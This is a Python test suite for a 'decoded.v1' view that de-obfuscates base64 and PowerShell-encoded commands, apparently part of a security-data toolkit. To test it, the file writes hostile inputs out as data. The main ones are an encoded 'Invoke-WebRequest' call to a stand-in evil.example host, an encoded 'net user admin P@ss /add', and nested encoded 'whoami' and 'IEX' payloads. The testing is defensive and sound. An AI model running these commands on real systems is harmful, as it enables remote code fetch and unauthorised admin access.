"""decoded.v1 never raises, is deterministic, and is bounded in output and time on hostile input."""

from __future__ import annotations

import base64
import os
import random
import time

from hypothesis import given, settings
from hypothesis import strategies as st

from distilsec.data.views import apply_view, get_view
from distilsec.data.views.decoded import MAX_EXTRA_CHARS, SEPARATOR

decoded = get_view("decoded.v1")


def check_bounds(text: str, view: str) -> None:
    assert view == text or view.startswith(text + SEPARATOR)
    assert len(view) <= 4 * len(text) and len(view) - len(text) <= MAX_EXTRA_CHARS


def test_empty_and_whitespace() -> None:
    for text in ["", " ", "\n", "\t\r\n", "\x00"]:
        assert decoded(text) == text


def test_five_megabytes_bounded_in_time_and_output() -> None:
    enc = base64.b64encode("Invoke-WebRequest http://evil.example/a".encode("utf-16-le")).decode()
    head = f"powershell -enc {enc} "
    for text in [
        head + "A" * 5_000_000,
        head + ("cmd /c " * 800_000),
        "<html>" + "<form>" * 900_000,
        "%41" * 1_700_000,
    ]:
        start = time.perf_counter()
        view = decoded(text)
        assert time.perf_counter() - start < 5.0
        check_bounds(text, view)
    assert "powershell-encoded: Invoke-WebRequest http://evil.example/a" in decoded(head + "A" * 5_000_000)


def test_many_blobs_are_capped() -> None:
    blob = base64.b64encode(b"net user admin P@ss /add").decode()
    text = " ".join(f"echo {blob}{i:04d}" for i in range(5000))
    start = time.perf_counter()
    view = decoded(text)
    assert time.perf_counter() - start < 5.0
    check_bounds(text, view)


def test_invalid_base64_is_skipped() -> None:
    for text in [
        "powershell -enc !!!!notbase64!!!!",
        "powershell -enc SQBFAFgA=====",  # too much padding still decodes the same
        "powershell -enc SQBFAFg",  # cut short: one character too few to be base64
        "[Convert]::FromBase64String('@@@@')",
        "echo ==== | base64 -d",
        "powershell -e A",
    ]:
        view = decoded(text)
        check_bounds(text, view)
    assert decoded("powershell -enc !!!!notbase64!!!!") == "powershell -enc !!!!notbase64!!!!"


def test_binary_garbage() -> None:
    rng = random.Random(0)
    for _ in range(50):
        raw = bytes(rng.randrange(256) for _ in range(rng.randrange(1, 4000)))
        for text in [raw.decode("latin-1"), raw.decode("utf-8", errors="replace"), base64.b64encode(raw).decode()]:
            check_bounds(text, decoded(text))
    blob = base64.b64encode(os.urandom(3000)).decode()
    assert decoded(f"powershell -enc {blob}") == f"powershell -enc {blob}"


def test_deep_nesting_stops_and_stays_bounded() -> None:
    def layers(n: int) -> str:
        script = "whoami"
        for _ in range(n):
            script = f"powershell -enc {base64.b64encode(script.encode('utf-16-le')).decode()}"
        return script

    five = layers(5)  # two layers past the depth cap: three are opened
    assert decoded(five).count("powershell-encoded: ") == 3
    assert "powershell-encoded: whoami" not in decoded(five)
    twelve = layers(12)  # 130k characters: the blob is cut, the output capped
    start = time.perf_counter()
    view = decoded(twelve)
    assert time.perf_counter() - start < 2.0
    check_bounds(twelve, view)
    assert 1 <= view.count("powershell-encoded: ") <= 3
    nested = 'cmd /c "' * 200 + "whoami" + '"' * 200
    check_bounds(nested, decoded(nested))
    brackets = "'a'+" * 20_000 + "'b'"
    check_bounds(brackets, decoded(brackets))


def test_deterministic() -> None:
    enc = base64.b64encode("IEX whoami".encode("utf-16-le")).decode()
    texts = [f"cmd /c powershell -enc {enc} http://0x7f000001/?a={enc}"] * 3
    first, second, third = apply_view("decoded.v1", texts)
    assert first == second == third == decoded(texts[0])


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from("aA0+/=-e enc powershell cmd/c'\"`^%$\\x:<>&|?#@.[]()"), max_size=300))
def test_never_raises_on_command_like_noise(text: str) -> None:
    check_bounds(text, decoded(text))


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=500))
def test_never_raises_on_any_text(text: str) -> None:
    check_bounds(text, decoded(text))
